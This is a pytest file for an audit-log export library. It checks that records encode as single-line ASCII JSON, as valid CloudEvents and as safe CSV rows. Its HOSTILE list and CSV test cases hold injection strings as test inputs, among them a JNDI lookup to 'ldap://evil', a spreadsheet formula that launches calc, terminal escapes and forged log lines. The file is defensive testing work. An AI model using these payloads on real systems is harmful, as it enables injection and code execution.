"""What every export rests on: lines of printable ASCII, whom an entry is about, CloudEvents and table rows that read back."""

import csv
import io
import json
from typing import Any

import pytest
from cloudevents.core.bindings.http import HTTPMessage, from_http_event
from hypothesis import given
from hypothesis import strategies as st

import store_samples
import told_samples as samples
from lictor.model.errors import StoreError
from lictor.model.record import HoldDenied
from lictor.protocol.cloudevents import cloudevent
from lictor.protocol.events import Joins, ascii_json, read_kinds
from lictor.protocol.sheet import COLUMNS, cells_of, harmless, row_of
from lictor.records.merkle import leaf_hash
from lictor.sinks.encode import FORMATS, encoder

HOSTILE = [
    'fs.read_file\n{"decision":"allow"}',
    "a\u2028b\u0085c\x0b\x00\x7f",
    "\x1b]0;pwn\x07",
    "${jndi:ldap://evil}{{7*7}}%n",
    "=cmd|' /C calc'!A1",
    "\u202egpj.exe",
    "\r\n0 <13>1 forged",
]


def lines_of(data: bytes) -> list[bytes]:
    """What a reader of JSON lines, however liberal about line ends, takes for lines."""
    return [line.encode() for line in data.decode("utf-8").splitlines() if line]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("form", sorted(FORMATS))
def test_hostile_names_stay_in_their_line(form: str, text: str) -> None:
    """In every format a record is one line of printable ASCII that a JSON parser reads back as it was."""
    for told in samples.read(*samples.records(lambda: text)):
        event = encoder(form)(told)
        assert all(0x20 <= byte < 0x7F for byte in event.data)
        assert lines_of(event.data + b"\n") == [event.data]
        assert json.loads(event.data) == FORMATS[form](told)


def test_plain_json_would_not_do() -> None:
    """Control: JSON that leaves text as it is breaks lines, and the check above sees it."""
    told = samples.read(*samples.records(lambda: HOSTILE[1]))[0]
    careless = json.dumps(FORMATS["lictor"](told), ensure_ascii=False).encode()
    assert len(lines_of(careless)) > 1


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(), lambda x: st.lists(x) | st.dictionaries(st.text(), x)
    )
)
def test_ascii_json_never_changes_a_value(value: Any) -> None:
    """Whatever it holds, it reads back equal, on one line of printable ASCII."""
    written = ascii_json(value)
    assert json.loads(written) == value
    assert written.decode("ascii").isprintable()


# -- CloudEvents -----------------------------------------------------------------------------------------------------------


def test_the_foreign_reader_reads_our_cloudevents() -> None:
    """The CloudEvents SDK accepts each event and finds in it what was put there."""
    for told in samples.read(*samples.records()):
        body = encoder("cloudevents")(told).data
        found = from_http_event(HTTPMessage(headers={"content-type": "application/cloudevents+json"}, body=body))
        assert (found.get_source(), found.get_id()) == (samples.ORIGIN, str(told.seq))
        assert found.get_type() == f"dev.lictor.{told.tag}"
        assert found.get_extension("leafhash") == told.leaf.hex()
        assert int(found.get_time().timestamp() * 1_000) == told.at_ms
        assert found.get_data() == {"at": told.at_ms, "record": told.record}


def test_context_attributes_hold_no_text_from_outside_but_ids() -> None:
    """CloudEvents forbids control characters in attributes: none of ours can have one."""
    for told in samples.read(*samples.records(lambda: "word")):
        attributes = {name: value for name, value in cloudevent(told).items() if name != "data"}
        assert all(str(value).isprintable() for value in attributes.values())


# -- whom it is about ------------------------------------------------------------------------------------------------------


def test_a_record_that_names_an_id_is_joined_with_what_it_stands_for() -> None:
    """Decision, execution and hold are of the request's agent, person and action; one request's names never reach another's."""
    two = store_samples.received("req_2", task="task_1")
    told = samples.read(
        store_samples.opened(),
        store_samples.received(),
        store_samples.decided(),
        store_samples.held(),
        HoldDenied(hold="hold_1", by="alice"),  # type: ignore[arg-type]
        store_samples.started(),
        store_samples.ended(),
        two,
    )
    for one in told[1:7]:
        assert (one.names.task, one.names.agent, one.names.human) == ("task_1", "agent", "alice")
        assert one.names.action == "files/write_file"
        assert one.names.request == "req_1"
    assert told[0].names.request == ""
    assert told[7].names.request == "req_2"
    assert told[7].names.execution == ""


def test_what_was_never_seen_stays_unknown() -> None:
    """Control: without the request before it a decision names nobody."""
    told = samples.read(store_samples.decided())[0]
    assert (told.names.request, told.names.agent, told.names.action) == ("req_1", "", "")


@pytest.mark.parametrize("data", [b"", b"[]", b'{"at":1}', b'{"at":1,"record":3}', b"\xff"])
def test_bytes_that_are_no_entry_are_refused(data: bytes) -> None:
    """A damaged log is not exported as something else."""
    with pytest.raises(StoreError):
        Joins("x").read(0, data, leaf_hash(data))


def test_kinds_and_tags_are_read() -> None:
    """No kinds want everything; a kind wants all its tags; a tag itself alone."""
    assert read_kinds((), "decision.made")
    assert read_kinds(("decision",), "decision.made")
    assert read_kinds(("decision.made",), "decision.made")
    assert not read_kinds(("decision.other", "dec"), "decision.made")


# -- tables ----------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "+1", "-1", "@SUM(1)", "\t=1", "'=1", '"x', "a,b", "＝1"])
def test_a_cell_is_never_a_formula_and_never_two(text: str) -> None:
    """Every cell of every row starts with nothing that a spreadsheet evaluates, and the file has one row a record."""
    told = samples.read(*samples.records(lambda: text))
    written = io.StringIO()
    csv.writer(written).writerows(cells_of(one) for one in told)
    rows = list(csv.reader(io.StringIO(written.getvalue())))
    assert len(rows) == len(written.getvalue().splitlines()) == len(told)
    assert all(len(row) == len(COLUMNS) for row in rows)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [json.loads(row[-1]) for row in rows] == [one.record for one in told]
    assert written.getvalue().replace("\r\n", "").isascii()


@given(st.text(), st.text())
def test_two_texts_never_become_one_cell(one: str, other: str) -> None:
    """What is made harmless can still be told apart."""
    assert (harmless(one) == harmless(other)) is (one == other)
    assert harmless(one).isprintable()


def test_the_record_column_reads_back() -> None:
    """A row holds the whole record."""
    for told in samples.read(*samples.records()):
        assert json.loads(row_of(told)["record"]) == told.record


def test_who_did_it_is_found_in_the_record_or_in_what_it_carries() -> None:
    """By the record's own word, the opener, the approver, whoever laid a restriction; and of a record that names nobody, nobody."""
    who = {told.tag: told.by for told in samples.read(*samples.records(lambda: "somebody"))}
    for tag in ("privilege.task_opened", "privilege.task_closed", "approval.given", "approval.denied"):
        assert who[tag] == "somebody", tag
    for tag in ("privilege.containment_laid", "privilege.containment_lifted", "privilege.payloads_erased"):
        assert who[tag] == "somebody", tag
    assert who["decision.made"] == who["execution.ended"] == ""
